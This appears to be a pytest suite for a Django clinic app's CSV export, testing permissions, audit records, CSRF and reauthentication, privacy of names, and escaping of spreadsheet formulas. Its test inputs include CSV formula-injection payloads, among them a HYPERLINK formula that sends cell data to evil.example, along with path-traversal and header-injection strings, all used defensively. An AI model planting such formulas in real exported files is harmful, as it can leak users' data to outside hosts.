"""CSV export of figures and of the list of requests: permissions, content, safety in spreadsheets."""

import csv
import io
from datetime import UTC, datetime

import pytest
import time_machine
from django.contrib.auth.models import Permission
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from consultations import actions
from consultations.figures import all_figures
from consultations.models import Inquiry, Team
from gutskin.audit.models import AuditEvent
from gutskin.csv_export import csv_text, safe_cell
from tests.consultations.factories import (
    ANSWERS,
    a_clinician,
    a_coordinator,
    a_privacy_lead,
    a_superuser,
    an_article,
    an_author,
    an_inquiry,
    many_inquiries,
    some_inquiries,
)
from tests.staff_session import older_login

pytestmark = pytest.mark.django_db
SAVE_FIGURE = "/admin/consultations/inquiry/figures/save/"
SAVE_REQUESTS = "/admin/consultations/inquiry/save/"
FIGURES = "/admin/consultations/inquiry/figures/"


def rows_of(response):
    text = response.content.decode()
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize("address", [SAVE_FIGURE, SAVE_REQUESTS])
@pytest.mark.parametrize(
    ("role", "status"),
    [
        (a_coordinator, 200),
        (a_superuser, 200),
        (a_clinician, 403),
        (a_privacy_lead, 403),
        (an_author, 403),
        (None, 302),
    ],
)
def test_who_may_export_and_each_export_is_recorded(client, role, status, address):
    an_inquiry()
    if role:
        client.force_login(role())

    assert client.post(address, {"figure": "weeks"}).status_code == status
    assert AuditEvent.objects.filter(action="exported").count() == (status == 200)


@pytest.mark.parametrize("address", [SAVE_FIGURE, SAVE_REQUESTS])
def test_a_get_request_exports_nothing(client, address):
    client.force_login(a_coordinator())

    assert client.get(address).status_code == 302
    assert not AuditEvent.objects.filter(action="exported").exists()


def test_another_website_cannot_start_an_export():
    client = Client(enforce_csrf_checks=True)
    client.force_login(a_coordinator())

    assert client.post(SAVE_REQUESTS).status_code == 403


@pytest.mark.parametrize("address", [SAVE_FIGURE, SAVE_REQUESTS])
def test_an_older_login_has_to_be_confirmed_first(client, address):
    carla = a_coordinator()
    client.force_login(carla)
    older_login(client, carla)

    response = client.post(address, {"figure": "weeks"}, headers={"referer": f"http://testserver{FIGURES}"})

    assert response.status_code == 302
    assert response.url.startswith(reverse("account_reauthenticate"))
    assert not AuditEvent.objects.filter(action="exported").exists()


def test_every_table_of_the_page_is_exported_as_it_is_shown(client):
    client.force_login(a_coordinator())
    some_inquiries(2)

    for figure in all_figures():
        response = client.post(SAVE_FIGURE, {"figure": figure.key})
        head, *rows = rows_of(response)
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"].startswith(f'attachment; filename="gutskin-{figure.key}-')
        assert response["Cache-Control"].count("no-store") == 1
        assert len(head) == len(figure.columns)
        assert [row[1:] for row in rows] == [
            ["" if cell is None else str(cell) for cell in row.cells] for row in figure.rows
        ]
        trace = AuditEvent.objects.first()
        assert (trace.action, trace.actor, trace.reference) == ("exported", "carla", "")
        assert trace.detail == f"{figure.key} {len(rows)}"


def test_weeks_are_exported_as_iso_dates(client):
    client.force_login(a_coordinator())
    an_inquiry()

    rows = rows_of(client.post(SAVE_FIGURE, {"figure": "weeks"}))

    assert rows[0] == ["Week from", "Requests"]
    assert all(datetime.fromisoformat(day).weekday() == 0 for day, _count in rows[1:])


@pytest.mark.parametrize("figure", ["", "nothing", "../weeks", 'weeks"\r\nX: y', "=1+1"])
def test_an_unknown_table_is_not_found(client, figure):
    client.force_login(a_coordinator())

    assert client.post(SAVE_FIGURE, {"figure": figure}).status_code == 404
    assert not AuditEvent.objects.filter(action="exported").exists()


def test_the_list_of_requests_holds_statuses_and_dates_and_no_name(client):
    with time_machine.travel(datetime(2026, 7, 1, 9, tzinfo=UTC), tick=False):
        carla = a_coordinator()
        inquiry = an_inquiry(condition=an_article())
        actions.assign(inquiry, to=a_clinician("maria"), by=carla)
        actions.change_status(inquiry, to="in_triage", by=carla)
        actions.change_status(inquiry, to="answered", note="On the phone.", by=carla)
        actions.change_status(inquiry, to="closed", outcome="advice_given", by=carla)
        client.force_login(carla)

        response = client.post(SAVE_REQUESTS)

    head, row = rows_of(response)
    assert dict(zip(head, row, strict=True)) == {
        "Reference": inquiry.reference,
        "Topic": "Psoriasis",
        "Urgency": "Routine",
        "Status": "Closed",
        "Outcome": "Advice given in writing",
        "Received": "2026-07-01 10:00",  # in the clinic's time zone
        "Reply due": "2026-07-15 23:59",
        "First answered": "2026-07-01 10:00",
        "Closed": "2026-07-01 10:00",
    }
    text = response.content.decode()
    assert not [word for word in ["Amina", "maria", *ANSWERS.values()] if word and word in text]


def test_the_list_holds_only_what_this_user_sees(client):
    """A user who may export and sees only their own requests."""
    mine, _theirs = some_inquiries(2)
    david = a_clinician(team=None)
    Team.objects.all().delete()
    actions.assign(mine, to=david, by=a_coordinator())
    david.user_permissions.add(Permission.objects.get(codename="export_inquiry"))
    client.force_login(david)

    _head, *rows = rows_of(client.post(SAVE_REQUESTS))

    assert [row[0] for row in rows] == [mine.reference]
    assert AuditEvent.objects.first().detail == "requests 1"


FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\tcell",
    "\rcell",
    "\ncell",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    '"=1+1',
    '" @x"',
    '=HYPERLINK("https://evil.example/?q="&A1)',
]


@pytest.mark.parametrize("title", FORMULAS)
def test_no_topic_becomes_a_formula(client, title):
    """A title is the only text in these files that a user typed."""
    client.force_login(a_coordinator())
    an_inquiry(condition=an_article(title=title))

    requests, topics = client.post(SAVE_REQUESTS), client.post(SAVE_FIGURE, {"figure": "topics"})

    assert rows_of(requests)[1][1] == rows_of(topics)[1][0] == f"'{title}"


def test_quotes_line_breaks_and_semicolons_stay_inside_their_cell():
    nasty = 'He said "no";=1+1\r\n-2,"'
    (head, row) = list(csv.reader(io.StringIO(csv_text(["=x"], [[nasty]]).removeprefix("\ufeff"), newline="")))

    assert head == ["'=x"]
    assert row == ['He said "no";\'=1+1\r\n-2,"']
    assert safe_cell(12) == "12"


def test_the_list_costs_the_same_queries_for_three_and_thirty(client):
    client.force_login(a_coordinator())
    many_inquiries(3)
    with CaptureQueriesContext(connection) as few:
        client.post(SAVE_REQUESTS)

    many_inquiries(27)
    with CaptureQueriesContext(connection) as many:
        response = client.post(SAVE_REQUESTS)

    assert len(rows_of(response)) == 31 == Inquiry.objects.count() + 1
    assert len(many) == len(few) <= 16
